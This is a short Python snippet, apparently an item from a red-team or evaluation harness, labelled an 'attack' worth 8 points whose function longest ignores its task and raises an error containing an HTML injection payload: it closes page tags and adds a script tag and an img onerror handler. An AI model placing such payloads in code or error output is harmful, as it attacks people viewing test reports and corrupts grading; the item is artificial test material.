# /// attack
# tries = "Fails a test with an error whose message is HTML."
# points = 8
# honest = true
# ///
# %% longest
def longest(words):
    text = f"</pre></div><script>{bait['script']}</script><img src='nowhere:' onerror=\"{bait['script']}\">"
    raise ValueError(text)
